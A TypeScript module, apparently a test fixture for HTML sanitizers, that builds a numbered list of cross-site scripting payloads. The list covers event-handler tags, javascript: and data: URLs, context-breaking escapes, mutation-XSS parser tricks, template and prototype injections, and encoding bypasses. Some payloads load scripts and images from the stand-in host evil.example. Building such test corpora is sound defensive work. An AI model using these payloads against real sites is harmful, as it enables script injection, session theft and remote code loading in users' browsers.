// Texts that would run a script or call another site if any screen took them for markup. They are combined from parts, so that no two are
// alike: each carries its number, and says it to `x` when it runs. None is longer than the shortest field takes but for the button's.

const site = 'https://evil.example'

/** Elements that tell of something by themselves, and how they are brought to do so. */
const telling: readonly (readonly [element: string, event: string, more: string])[] = [
  ...(['img', 'image', 'input type=image', 'video', 'audio', 'embed', 'script'] as const).map((element) => [element, 'error', 'src=1'] as const),
  ...(['body', 'frameset', 'svg', 'style', 'iframe', 'object data=/', 'link rel=stylesheet href=/favicon.svg'] as const).map(
    (element) => [element, 'load', ''] as const,
  ),
  ...(['input', 'select', 'textarea', 'keygen', 'button', 'a href=/', 'div tabindex=1', 'details', 'summary', 'x contenteditable'] as const).flatMap(
    (element) => (['focus', 'focusin'] as const).map((event) => [element, event, 'autofocus'] as const),
  ),
  ...(['a', 'b', 'div', 'p', 'x', 'form', 'table', 'marquee', 'math', 'dialog open'] as const).flatMap((element) =>
    (['mouseover', 'pointerenter', 'click', 'auxclick'] as const).map((event) => [element, event, 'style=position:fixed;inset:0'] as const),
  ),
  ...(['animationstart', 'transitionend', 'animationend', 'webkitanimationend'] as const).map((event) => ['p', event, 'style=animation:a'] as const),
  ...(['begin', 'end', 'repeat'] as const).flatMap((event) =>
    (['animate', 'set', 'animatetransform', 'animatemotion'] as const).map(
      (element) => [`svg><${element}`, event, 'attributeName=x dur=1ms'] as const,
    ),
  ),
  ['details open', 'toggle', ''],
  ['marquee', 'start', ''],
  ['video autoplay', 'loadstart', 'src=/'],
  ['audio autoplay', 'canplay', 'src=/'],
  ['slot', 'slotchange', ''],
  ['div popover', 'beforetoggle', ''],
  ['body', 'hashchange', ''],
  ['body', 'pageshow', ''],
  ['body', 'message', ''],
  ['p', 'scrollend', ''],
  ['p', 'contentvisibilityautostatechange', 'style=content-visibility:auto'],
]
const events = telling.map(([element, event, more], n) => {
  // in capitals, without blanks and in quotes by turns
  const written = [`on${event}=`, `ON${event.toUpperCase()}=`, `/on${event}=`][n % 3]
  const [open, close] = [
    ['', ''],
    ['"', '"'],
    ["'", "'"],
    ['`', '`'],
  ][n % 4] ?? ['', '']
  return (at: number) => `<${element} ${more} ${written}${open}x(${at})${close}>`.replaceAll('  ', ' ')
})

/** Ways to write an address that is a program. */
const programs: readonly ((at: number) => string)[] = [
  (at) => `javascript:x(${at})`,
  (at) => `JaVaScRiPt:x(${at})`,
  (at) => `java\tscript:x(${at})`,
  (at) => `java\nscript:x(${at})`,
  (at) => ` \u0001javascript:x(${at})`,
  (at) => `&#106;avascript:x(${at})`,
  (at) => `&#x6A&#x61vascript:x(${at})`,
  (at) => `javascript&colon;x(${at})`,
  (at) => `javascript&#x3A;x(${at})`,
  (at) => `javascript://%0ax(${at})`,
  (at) => `vbscript:x(${at})`,
  (at) => `data:text/html,<script>parent.x(${at})</script>`,
  (at) => `data:text/html;base64,${btoa(`<script>parent.x(${at})</script>`)}`,
  (at) => `data:image/svg+xml,<svg onload=x(${at})>`,
  (at) => `blob:${site}/${at}`,
]
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">open</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>send</button></form>`,
  (address) => `<button form=f formaction="${address}">send</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>open</text></a></svg>`,
  (address) => `<math href="${address}">open</math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}//">`,
  (address) => `<svg><use href="${address}#a"/></svg>`,
]
// each place with one program in three, each program in several places
const addresses = places.flatMap((place, row) =>
  programs.flatMap((program, column) => ((row + column) % 3 === 0 ? [(at: number) => place(program(at))] : [])),
)

/** What ends the place that a text stands in. */
const endings = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</select>',
  '"/>\r\n',
  '*/',
  '?>',
  '--!>',
]
const escapes = endings.map((ending, n) => (at: number) => `${ending}${n % 2 ? `<svg onload=x(${at})>` : `<script>x(${at})</script>`}`)

const scripts: readonly ((at: number) => string)[] = [
  (at) => `<script>x(${at})</script>`,
  (at) => `<SCRIPT>x(${at})</SCRIPT >`,
  (at) => `<script/a>x(${at})</script/a>`,
  (at) => `<script\n>x(${at})</script\n>`,
  (at) => `<<script>script>x(${at})<</script>/script>`,
  (at) => `<scr<script>ipt>x(${at})</scr</script>ipt>`,
  (at) => `<script>x(${at})//`,
  (at) => `<script type=module>x(${at})</script>`,
  (at) => `<script src=${site}/${at}.js></script>`,
  (at) => `<script src=//evil.example/${at}.js async></script>`,
  (at) => `<script src=data:,x(${at})></script>`,
  (at) => `<svg><script>x(${at})</script></svg>`,
  (at) => `<svg><script href=data:,x(${at}) /></svg>`,
  (at) => `<svg><script>x&#40;${at})</script></svg>`,
  (at) => `<math><mtext><script>x(${at})</script></mtext></math>`,
  (at) => `<!--[if gte IE 5]><script>x(${at})</script><![endif]-->`,
  (at) => `<![CDATA[<script>x(${at})</script>]]>`,
  (at) => `<?xml-stylesheet href="javascript:x(${at})"?>`,
  (at) => `<xml><x><script>x(${at})</script></x></xml>`,
]

/** Other sites, called without any script. */
const callers: readonly ((at: number) => string)[] = [
  (at) => `<img src=${site}/${at}.png>`,
  (at) => `<img srcset="${site}/${at}.png 2x">`,
  (at) => `<img src=//evil.example/${at}>`,
  (at) => `<img src="\\\\evil.example\\${at}">`,
  (at) => `<picture><source srcset=${site}/${at}><img></picture>`,
  (at) => `<video poster=${site}/${at}></video>`,
  (at) => `<audio src=${site}/${at} preload></audio>`,
  (at) => `<table background=${site}/${at}><td>`,
  (at) => `<style>@import "${site}/${at}.css";</style>`,
  (at) => `<style>*{background:url(${site}/${at})}</style>`,
  (at) => `<p style="background:url(${site}/${at})">`,
  (at) => `<p style=list-style:url(${site}/${at})>`,
  (at) => `<link rel=stylesheet href=${site}/${at}.css>`,
  (at) => `<link rel=preconnect href=${site}/${at}>`,
  (at) => `<link rel=icon href=${site}/${at}>`,
  (at) => `<link rel=manifest href=${site}/${at}>`,
  (at) => `<svg><image href=${site}/${at} /></svg>`,
  (at) => `<svg><filter><feImage href=${site}/${at} /></filter></svg>`,
  (at) => `<iframe srcdoc="<script>parent.x(${at})</script>">`,
  (at) => `<portal src=${site}/${at}>`,
  (at) => `![](${site}/${at}.png)`,
  (at) => `[open](javascript:x(${at}))`,
  (at) => `<a href=/ ping=${site}/${at}>`,
]

/** Harmless as they stand; a parser that reads, writes and reads again makes markup of them. */
const mutants: readonly ((at: number) => string)[] = [
  (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x(${at})&gt;">`,
  (at) => `<svg></p><style><a id="</style><img src=1 onerror=x(${at})>">`,
  (at) => `<noscript><p title="</noscript><img src=1 onerror=x(${at})>">`,
  (at) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=x(${at})>`,
  (at) => `<select><style></select><img src=1 onerror=x(${at})></style>`,
  (at) => `<template><img src=1 onerror=x(${at})></template>`,
  (at) => `<div><template shadowrootmode=open><img src=1 onerror=x(${at})></template></div>`,
  (at) => `<svg><foreignobject><img src=1 onerror=x(${at})></foreignobject></svg>`,
  (at) => `<svg><desc><style><!--</style><img src=1 onerror=x(${at})>--></desc></svg>`,
  (at) => `<xmp><p title="</xmp><img src=1 onerror=x(${at})>">`,
  (at) => `<table><caption><svg onload=x(${at})></table>`,
  (at) => `<option><style></option></select><img src=1 onerror=x(${at})></style>`,
  (at) => `<a <b onmouseover=x(${at})>open</a>`,
  (at) => `<img """><script>x(${at})</script>">`,
  (at) => `<img src=1 onerror\u000C=x(${at})>`,
  (at) => `<img/src/onerror=x(${at})//`,
]

/** For programs that fill in, decode or put together. */
const others: readonly ((at: number) => string)[] = [
  (at) => `{{constructor.constructor('x(${at})')()}}`,
  (at) => `{{$on.constructor('x(${at})')()}}`,
  (at) => `\${x(${at})}`,
  (at) => `#{x(${at})}`,
  (at) => `<%= x(${at}) %>`,
  (at) => `{% x(${at}) %}`,
  (at) => `';x(${at});//`,
  (at) => `";x(${at});//`,
  (at) => `\\';x(${at});//`,
  (at) => `\\u003cscript\\u003ex(${at})\\u003c/script\\u003e`,
  (at) => `&lt;script&gt;x(${at})&lt;/script&gt;`,
  (at) => `&amp;lt;script&amp;gt;x(${at})&amp;lt;/script&amp;gt;`,
  (at) => `%3Cscript%3Ex(${at})%3C/script%3E`,
  (at) => `%253Cscript%253Ex(${at})%253C/script%253E`,
  (at) => `+ADw-script+AD4-x(${at})+ADw-/script+AD4-`,
  (at) => `＜script＞x(${at})＜/script＞`,
  (at) => `\u02C2script\u02C3x(${at})\u02C2/script\u02C3`,
  (at) => `<\u200Bscript>x(${at})</script>`,
  (at) => `\u202E>tpircs/<)${at}(x>tpircs<`,
  (at) => `{"__html":"<img src=1 onerror=x(${at})>"}`,
  (at) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"x(${at})"}}`,
  (at) => `__proto__[innerHTML]=<img src=1 onerror=x(${at})>`,
  (at) => `<b is=x-${at} dangerouslysetinnerhtml=1>bold</b>`,
  (at) => `陳大文<img src=1 onerror=x(${at})>`,
  (at) => `\uFEFF<svg onload=x(${at})>`,
]

/** By their numbers. */
export const payloads: readonly string[] = [...others, ...mutants, ...scripts, ...escapes, ...callers, ...addresses, ...events].map((make, at) =>
  make(at).trim(),
)
